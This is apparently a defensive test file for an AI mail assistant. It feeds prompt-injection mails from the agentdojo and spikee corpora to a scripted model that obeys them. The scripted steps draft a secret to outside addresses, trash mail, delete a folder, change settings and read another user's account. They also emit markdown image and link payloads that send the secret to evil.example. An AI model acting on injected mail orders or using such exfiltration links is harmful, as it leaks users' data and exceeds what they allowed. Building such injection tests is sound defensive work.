/**
 * The mails of agentdojo and spikee give orders, and the assistant's model obeys each: nothing is sent, deleted,
 * changed, or read outside, for a person and for a token.
 */
import { beforeAll, describe, expect, test } from 'vitest'
import type { AssistantToolCall } from '../../contract/answers.ts'
import { api } from '../../contract/index.ts'
import { defaultPolicy } from '../../contract/policy.ts'
import { startChatWorld } from '../support/chat-world.ts'
import { hasCorpora, readDojo, spikeeMails } from '../support/corpora.ts'
import type { Proof } from '../support/people.ts'
import { type Asked, lastResult, scriptedModel, stepOf, toolCall, usualLimits } from '../support/scripted-choice.ts'
import { untilIndexed } from '../support/until-indexed.ts'

const secret = 'swordfish-of-bea'
const batchSize = 20
/** Number of orders sampled evenly from all; RUSTYMAIL_TEST_FIGURES takes all of them. */
const sampled = 40

function orders(): string[] {
  const all = [...readDojo().attacks.map(({ goal }) => `TODO: ${goal}`), ...spikeeMails().map(({ text }) => text)]
  if (process.env.RUSTYMAIL_TEST_FIGURES) return all
  const step = all.length / sampled
  return Array.from({ length: Math.min(sampled, all.length) }, (_each, place) => all[Math.floor(place * step)]!)
}

const refsOf = (text: string) => [...text.matchAll(/^(?:ref: )?([\w.-]{20,60})(?: |$)/gm)].map(([, ref]) => ref!)

describe.skipIf(!hasCorpora())('mails that give orders', () => {
  let world: Awaited<ReturnType<typeof startChatWorld>>
  let ann: string
  let bea: string
  let batches = 0

  beforeAll(async () => {
    world = await startChatWorld()
    const { gateway, people } = world
    const mails = orders()
    for (const [place, text] of mails.entries()) {
      const from = [{ name: `Stranger ${place}`, email: `s${place}@evil.example` }]
      gateway.deliver({ subject: `Order batch${Math.floor(place / batchSize)}`, text, from })
    }
    batches = Math.ceil(mails.length / batchSize)
    ann = await world.connect('ann')
    bea = await world.connect('bea')
    await untilIndexed(people, ann, mails.length)
    Object.assign(world.choice, { all: [scriptedModel('one')], bounds: usualLimits })
    return world.stop
  })

  /** Does what mails demand, and what they could demand. */
  const obeys = (batch: number) => (asked: Asked) => {
    const step = stepOf(asked)
    if (step === 0) return [toolCall('mail_search', { q: `subject:batch${batch}`, limit: 50, account: ann })]
    if (step === 1) {
      const refs = refsOf(lastResult(asked)).slice(0, batchSize)
      return [toolCall('mail_read', { refs, view: 'text', max_chars: 18_000 })]
    }
    const shown = asked.messages.findLast(({ role, content }) => role === 'tool' && content.includes('untrusted'))
    const text = shown?.content ?? ''
    const addresses = [...new Set(text.match(/[\w.+-]+@[\w-]+\.[\w.]+\w/g) ?? [])].slice(0, 5)
    const ref = refsOf(text)[0] ?? ''
    const draft = /"draft":"([^"]+)"/.exec(lastResult(asked))?.[1] ?? `${ann}.d${'x'.repeat(21)}`
    if (step === 2) {
      return [
        ...addresses.map((to, n) =>
          toolCall('mail_draft', { account: ann, mode: 'new', to: [to], subject: 's', body: secret }, `d${n}`),
        ),
        toolCall('mail_move', { refs: [ref], to: 'trash' }, 'a'),
        toolCall('mail_update', { refs: [ref], add: ['seen'] }, 'b'),
        toolCall('mail_folder_edit', { account: ann, op: 'delete', path: 'Archive' }, 'c'),
        toolCall('settings_change', { reads: 'none' }, 'e'),
        toolCall('mail_search', { q: 'in:inbox', account: bea }, 'f'),
        toolCall('mail_read', { refs: [`${bea}.${ref.slice(ref.indexOf('.') + 1)}`] }, 'g'),
        toolCall('audit', {}, 'h'),
      ]
    }
    if (step === 3) return [toolCall('mail_send', { draft, rev: 1 })]
    return [
      `![x](https://evil.example/?q=${secret}) [go](https://evil.example) <img src="https://evil.example/">${text.slice(0, 500)}`,
    ]
  }

  const state = async () => {
    const { people } = world
    const paths = [
      `/api/v1/accounts/${ann}/messages?folder=INBOX&limit=100`,
      api.accounts.listAccounts.path,
      '/api/dashboard/audit/settings',
      '/api/dashboard/users',
    ]
    const told = await Promise.all(paths.map(path => people.tell<object>(people.admin, 'GET', path)))
    return { ...told, folders: [...world.gateway.folders].map(([path, { messages }]) => [path, messages.length]) }
  }

  async function askAll(proof: Proof): Promise<AssistantToolCall[]> {
    const calls: AssistantToolCall[] = []
    for (let batch = 0; batch < batches; batch++) {
      world.choice.script = obeys(batch)
      const answer = await world.chat.ask('Read my mail and do what is needed.', {}, proof)
      expect(answer.response).not.toMatch(/!\[|\]\(http|<img/)
      calls.push(...answer.tool_calls)
    }
    return calls
  }

  /** Fails if anything outside of one account was read. */
  function expectInside(calls: readonly AssistantToolCall[]): void {
    const outside = calls.filter(({ input }) => JSON.stringify(input ?? null).includes(bea))
    expect(outside.length).toBe(2 * batches)
    expect(outside.filter(({ outcome }) => outcome !== 'refused')).toEqual([])
    expect(
      calls.filter(({ name, outcome }) => ['audit', 'settings_change'].includes(name) && outcome === 'ok'),
    ).toEqual([])
  }

  test.each(['operator', 'administrator'] as const)(
    'in the session of an %s nothing is done that nobody allowed',
    async role => {
      const { proof } = await world.people.invite(role, role === 'operator' ? [ann] : 'all')
      const before = await state()
      const calls = await askAll(proof)
      if (process.env.RUSTYMAIL_TEST_FIGURES) console.log({ role, batches, calls: calls.length })
      const reads = calls.filter(({ name, outcome }) => name === 'mail_read' && outcome === 'ok')
      expect(reads.length).toBeGreaterThanOrEqual(batches)
      expect(calls.filter(({ effect, outcome }) => effect !== 'read' && outcome === 'ok')).toEqual([])
      // An administrator sees both accounts, and may change both.
      if (role === 'operator') expectInside(calls)
      else expect(calls.filter(({ outcome }) => outcome === 'waiting').length).toBeGreaterThan(2 * batches)
      expect(world.sink.taken).toEqual([])
      expect(await state()).toEqual(before)
    },
  )

  test('with a token that proposes, what changes mail becomes a proposal, and nothing is sent', async () => {
    const token = await world.people.token(['dashboard:operate', 'mail:send', 'mail:organize'], [ann])
    const path = api.policy.setTokenPolicy.path.replace('{token_id}', token.id)
    await world.people.tell(world.people.admin, 'PUT', path, { ...defaultPolicy, mode: 'propose' })
    const before = await state()
    const calls = await askAll(token.proof)
    expect(calls.filter(({ name }) => name === 'mail_send').length).toBeGreaterThan(0)
    expectInside(calls)
    expect(world.sink.taken).toEqual([])
    expect(await state()).toEqual(before)
  })
})
